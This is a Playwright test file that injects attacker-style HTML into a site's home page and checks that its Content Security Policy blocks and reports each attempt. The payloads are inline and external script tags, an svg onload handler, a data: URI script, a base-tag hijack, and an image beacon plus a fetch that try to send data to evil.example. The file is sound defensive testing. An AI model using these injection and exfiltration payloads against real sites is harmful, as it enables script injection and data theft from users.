import type { Page } from 'playwright/test';
import { expect, test } from './support/test';

// Every browser test fails if a page violates its policy (support/test.ts): every-page.spec.ts visits the pages, the tests of
// the forms send them, and the tests of the dashboard open all its parts.

test.describe('HTML that an attacker has injected into a page', () => {
  test.use({ hydrates: false, expectedErrors: /Content.Security.Policy/ });

  /** Opens the home page with injected HTML, and returns the directives that were violated. */
  async function openWithInjected(page: Page, html: string): Promise<string[]> {
    const violations: string[] = [];
    page.on('console', (message) => {
      const [, directive] = /^Content-Security-Policy: (\S+)/.exec(message.text()) ?? [];
      if (directive) violations.push(directive);
    });
    await page.route('/', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', `${html}</body>`);
      await route.fulfill({ response, body });
    });
    await page.goto('/');
    return violations;
  }

  const hasAttackRun = (page: Page) => page.evaluate(() => 'attacked' in window);

  test('runs no script in any notation, even if it is added later', async ({ page }) => {
    const violations = await openWithInjected(
      page,
      `<script>window.attacked = true</script>
       <script type="module">window.attacked = true</script>
       <svg onload="window.attacked = true"></svg>
       <script src="https://evil.example/attack.js"></script>
       <script src="data:text/javascript,window.attacked=true"></script>
       <style>body { background: url(https://evil.example/) }</style>
       <base href="https://evil.example/">`,
    );
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.attacked = true';
      document.body.append(script);
    });
    // The four injected scripts and the later one violate the same directive.
    const scripts = Array<string>(5).fill('script-src-elem');
    await expect
      .poll(() => violations.toSorted())
      .toEqual(['base-uri', 'script-src-attr', ...scripts, 'style-src-elem']);
    expect(await hasAttackRun(page)).toBe(false);
  });

  test('sends nothing to another site', async ({ page }) => {
    const violations = await openWithInjected(page, '<img src="https://evil.example/?stolen" alt="">');
    await page.evaluate(() => fetch('https://evil.example/').catch(() => undefined));
    await expect.poll(() => violations.sort()).toEqual(['connect-src', 'img-src']);
  });
});
